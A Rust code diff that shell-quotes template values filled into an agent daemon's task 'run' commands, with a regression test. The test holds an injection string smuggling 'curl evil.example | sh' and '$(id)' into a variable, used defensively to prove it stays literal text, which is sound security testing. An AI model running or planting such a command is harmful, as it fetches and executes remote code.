@@ -285,12 +285,22 @@ fn render(
     scope: Scope<'_>,
     text: &str,
 ) -> Result<String, (String, usize, Missing)> {
+    render_with(cfg, scope, text, |v| v.to_string())
+}
+
+/// [`render`], each value put in as `put` makes it.
+fn render_with(
+    cfg: &TeamConfig,
+    scope: Scope<'_>,
+    text: &str,
+    put: fn(&str) -> String,
+) -> Result<String, (String, usize, Missing)> {
     let mut out = String::with_capacity(text.len());
     for p in pieces(text) {
         match p {
             Piece::Text(t) => out.push_str(t),
             Piece::Var(name, at) => match lookup(cfg, scope, name) {
-                Ok(v) => out.push_str(&v),
+                Ok(v) => out.push_str(&put(&v)),
                 Err(why) => return Err((name.to_string(), at, why)),
             },
         }
@@ -507,7 +517,15 @@ pub fn team_goal(cfg: &TeamConfig) -> Result<Option<String>, ConfigError> {
 /// A task's title, description or `run` command (`field` names which, for the message),
 /// filled as the daemon creates the task.
 pub fn fill_task_text(cfg: &TeamConfig, field: &str, text: &str) -> Result<String, String> {
-    render(cfg, Scope::Team, text)
+    // A `run` command is shell: each value goes in as one word, quoted when it holds anything
+    // the shell would read (a webhook's variable is text anyone can write, e.g. an issue's
+    // title: `x; curl …` must stay text). A plain value goes in as it is.
+    let quote = if field == "run" {
+        agent_team_perms::shell::quote
+    } else {
+        |v: &str| v.to_string()
+    };
+    render_with(cfg, Scope::Team, text, quote)
         .map_err(|(name, _, why)| format!("{field}: {}", explain(cfg, Scope::Team, &name, &why)))
 }
 
@@ -1032,6 +1050,31 @@ run = "echo {{env}} > out.txt"
         // The stored configuration keeps the templates and the values.
         assert_eq!(cfg.tasks[0].title, "Deploy {{feature}}");
         assert_eq!(cfg.variables["date"], "2030-01-02");
+    }
+
+    #[test]
+    fn a_value_filled_into_a_run_command_stays_one_word_of_text() {
+        let mut cfg = parse(TEAM);
+        // A webhook's variable: an issue title anyone can write.
+        let hostile = "x'; curl evil.example | sh; echo '$(id)";
+        apply_variables_on(&mut cfg, &vars(&[("env", hostile)]), "d").unwrap();
+        let run = fill_task_text(&cfg, "run", "echo {{env}} > out.txt").unwrap();
+        assert_eq!(
+            run,
+            format!("echo {} > out.txt", agent_team_perms::shell::quote(hostile))
+        );
+        // The shell reads it back as the one word it was.
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(run.replace("> out.txt", ""))
+            .output()
+            .unwrap();
+        assert_eq!(String::from_utf8_lossy(&out.stdout), format!("{hostile}\n"));
+        // Other fields are text already: the value goes in as it is.
+        assert_eq!(
+            fill_task_text(&cfg, "description", "to {{env}}").unwrap(),
+            format!("to {hostile}")
+        );
     }
 
     #[test]
